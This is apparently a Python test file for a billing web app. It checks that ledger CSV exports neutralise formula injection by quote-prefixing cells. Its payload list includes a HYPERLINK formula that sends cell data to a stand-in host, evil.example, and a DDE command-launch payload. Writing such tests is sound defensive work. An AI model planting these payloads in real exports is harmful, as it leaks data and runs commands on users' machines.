"""CSV formula injection (issue 20, item 4): the web's one CSV writer
(chargers/web/csvout.py) prefixes a quote to every text cell starting with =, +, -, @,
a tab or a carriage return (OWASP); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from chargers.extensions import db
from chargers.models import ResidentAccount, utcnow
from chargers.services.billing import accounts
from chargers.web.csvout import safe_cell

from .webtools import login

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
        "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def test_safe_cell():
    for text in EVIL:
        assert safe_cell(text) == "'" + text
    assert [safe_cell(v) for v in (-500, 12, Decimal("-1.5"), None, "九如巷", "a=b")] == [
        -500, 12, Decimal("-1.5"), "", "九如巷", "a=b"]


def test_the_ledger_csv_neutralises_what_staff_typed(app, client, admin, alley_with_pile):
    with app.app_context():
        user = db.session.get(type(admin[0]), admin[0].id)
        acc = accounts.create_account(user, accounts.AccountInput(alley="lane", cards=["-1"]),
                                       utcnow())
        accounts.top_up(user, acc.id, 1000, "cash", "@SUM(1+1)", utcnow())
        for reason in EVIL:
            accounts.refund(user, acc.id, 10, "cash", None, utcnow(), reason=reason)
        acc_id = acc.id
    login(client, "root")
    body = client.get("/staff/billing/lane/ledger.csv").get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for c in row]
    for text in EVIL:
        assert text not in cells and "'" + text in cells
    assert "@SUM(1+1)" not in cells
    assert not any(c[:1] in "=+@\t\r" for c in cells if c)
    assert "-0.10" in cells  # amounts stay plain numbers (yuan)
    with app.app_context():
        assert db.session.get(ResidentAccount, acc_id) is not None
